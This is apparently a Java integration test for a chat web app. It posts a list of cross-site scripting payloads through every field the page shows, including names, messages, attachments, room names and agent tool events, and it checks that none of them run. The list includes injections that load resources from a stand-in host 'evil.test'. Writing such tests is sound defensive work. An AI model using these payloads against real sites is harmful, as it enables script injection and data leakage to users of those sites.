package io.fluxy.examples.quickstart;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import io.fluxy.wire.Json;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Text that wants to be a script, in every field that the chat page shows of others. A tab fails
 * its test by a dialog, by an error of the console, such as the page's policy complaining, and by a
 * request to a stranger.
 */
class HostileTextIT {
  private static final String KEY = "fc_0123456789abcdef0123456789abcdef";
  private static final List<String> PAYLOADS =
      List.of(
          "<script>alert(1)</script>",
          "<script src=//evil.test/x.js></script>",
          "<img src=x onerror=alert(1)>",
          "<img src=//evil.test/pixel.gif>",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<iframe src=\"javascript:alert(1)\"></iframe>",
          "<iframe srcdoc=\"<script>parent.hacked=1</script>\">",
          "<object data=\"data:text/html,<script>alert(1)</script>\">",
          "<embed src=//evil.test/x.swf>",
          "<body onload=alert(1)>",
          "<a href=\"javascript:alert(1)\">click</a>",
          "<a href=//evil.test/ ping=//evil.test/ping>click</a>",
          "<form action=//evil.test/><button autofocus onfocus=alert(1)>go</button></form>",
          "<input autofocus onfocus=alert(1)>",
          "<details open ontoggle=alert(1)>",
          "<video src=x onerror=alert(1)></video>",
          "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<meta http-equiv=refresh content=\"0;url=//evil.test/\">",
          "<base href=//evil.test/>",
          "<link rel=stylesheet href=//evil.test/x.css>",
          "<style>@import '//evil.test/x.css';*{background:url(//evil.test/)}</style>",
          "\"><script>alert(1)</script>",
          "'-alert(1)-'",
          "javascript:alert(1)",
          "</textarea><script>alert(1)</script>",
          "{{constructor.constructor('alert(1)')()}}${alert(1)}",
          "\u202e<img src=x onerror=alert(1)>&lt;script&gt;alert(1)&lt;/script&gt;");

  /** Says a payload in every way that a client of the protocol has, as a user of that name. */
  private static final String ATTACK =
      """
      async ([token, victim, payload]) => {
        const { FluxyClient } = await import("/fluxy/fluxy.js");
        const client = new FluxyClient({ token, presence: { name: payload, avatar_url: payload, role: payload } });
        const room = client.room("lobby");
        await room.open();
        const isSent = () => room.state.connectionState.status === "online"
            && room.state.messages.every((message) => message.status !== "pending");
        const settled = () => new Promise((done) => {
          const look = () => isSent() && (leave(), done());
          const leave = room.subscribe(look);
          queueMicrotask(look);
        });
        await settled();
        const file = (url) => ({ kind: "file", url, name: payload, sizeBytes: 1, contentType: "text/plain" });
        room.send(payload);
        room.send(`about to change ${payload}`);
        room.send(`@here ${payload}`, { attachments: [file("https://files.test/a")] });
        room.send(payload, { attachments: [file(payload)] });
        room.send(payload, { parentId: victim });
        room.typing();
        await settled();
        const ours = room.state.messages.filter((message) => message.userId === room.state.userId);
        const changed = ours.find((message) => message.content.startsWith("about to change"));
        await room.edit(changed.id, payload);
        await room.react(victim, payload, true).catch(() => {});
        await settled();
        const failed = ours.filter((message) => message.status === "failed").length;
        client.close();
        return failed;
      }
      """;

  @TempDir Path folder;

  @Test
  void nothingThatOthersWriteRunsOrLeavesThePage() throws Exception {
    Browser browser = Browser.orSkip();
    try (Child server = Child.startUnlimited(folder, KEY);
        Chatter ann = new Chatter(browser.tab(server.url()), "Ann")) {
      Wire wire = new Wire(server.url());
      String owner =
          server.out().stream()
              .filter(line -> line.contains("Owner token"))
              .map(line -> line.replaceFirst(".*Owner token +", ""))
              .findFirst()
              .orElseThrow();
      ann.says("answer me");
      ann.reads("answer me");
      long victim = wire.history(owner).get(0).id();
      ann.opensThread("answer me");
      String last = "";
      try (Tab mallory = browser.tab(server.url()).seesOutages()) { // some of it is refused
        for (int i = 0; i < PAYLOADS.size(); i++) {
          String payload = PAYLOADS.get(i);
          String token = wire.token(KEY, "mallory-" + i);
          Object refused =
              mallory.page().evaluate(ATTACK, List.of(token, String.valueOf(victim), payload));
          assertThat((Integer) refused).as(payload).isLessThanOrEqualTo(1); // the odd address
          asAgent(wire, owner, payload);
          wire.send(owner, "PATCH", "/rooms/lobby", "{\"name\":" + json(payload) + "}");
          last = payload;
        }
      }
      assertThat(ann.page().locator("#thread-log .bubble p")).hasCount(PAYLOADS.size() + 1);
      assertThat(ann.page().locator("#log .step")).not().hasCount(0);

      Page page = ann.page();
      List<String> answers = page.locator("#thread-log .bubble p").allTextContents();
      assertThat(answers.subList(1, answers.size())).isEqualTo(PAYLOADS);
      assertThat(page.locator("#log .bubble p").allTextContents()).contains(last);
      assertThat(page.locator("#log .head strong").allTextContents())
          .contains("javascript:alert(1)");
      assertThat(page.locator("#log .attachment").allTextContents())
          .contains("📎 javascript:alert(1)");
      page.locator("#log .step summary").last().click();
      ann.page().reload();
      ann.isConnected();
      assertThat(page.locator("#log .bubble p").last()).isVisible();
      String strangers =
          "script:not([src^='/quickstart/']), iframe, object, embed, base, meta[http-equiv], style, form[action], ";
      assertThat(
              page.locator(
                  strangers
                      + "#app img:not([src='/favicon.ico']), #app svg, #app a[href^='javascript']"))
          .hasCount(0);
      assertThat(page.evaluate("() => window.hacked")).isNull();
    }
  }

  /** What agents tell: the names of tools, what they are asked and what they answer. */
  private static void asAgent(Wire wire, String owner, String payload) throws Exception {
    String step =
        "{\"roomIds\":[\"lobby\"],\"event\":{\"type\":\"%s\",\"runId\":\"r\",\"agentId\":\"bot\",\"toolCallId\":\"%s\",\"name\":%s,\"%s\":%s}}";
    String text = json(payload);
    String id = Integer.toHexString(payload.hashCode());
    wire.send(owner, "POST", "/events", step.formatted("tool_call", id, text, "arguments", text));
    wire.send(owner, "POST", "/events", step.formatted("tool_result", id, text, "result", text));
    wire.send(owner, "POST", "/events", step.formatted("tool_error", id, text, "error", text));
  }

  private static String json(String text) {
    return new String(Json.bytes(out -> out.writeString(text)), StandardCharsets.UTF_8);
  }
}
